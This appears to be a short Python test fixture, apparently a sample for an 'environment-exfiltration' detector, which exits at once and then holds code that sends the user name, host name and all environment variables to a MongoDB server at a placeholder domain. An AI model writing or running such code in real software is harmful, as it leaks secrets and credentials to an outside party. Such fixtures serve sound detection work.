raise SystemExit('a fixture')
# held by environment-exfiltration
import os, pymongo, getpass, socket
c = pymongo.MongoClient("mongodb+srv://u:p@unity-free.example.invalid/")
c["d"]["v"].insert_one({"u": getpass.getuser(), "h": socket.gethostname(), "env": dict(os.environ)})
